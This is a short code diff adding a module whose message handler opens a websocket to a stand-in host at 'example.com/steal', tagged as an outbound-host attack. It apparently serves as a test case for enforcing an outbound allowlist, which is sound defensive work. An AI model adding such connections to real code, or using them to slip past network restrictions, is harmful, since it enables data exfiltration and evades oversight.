@@ -1,0 +1,3 @@
+// Connect to a host outside the outbound allowlist.
+const ws = require("net/v4/websockets");
+exports.onMessage = () => ws.createWebsocket("ws://example.com/steal", "attack/outbound-host").id;
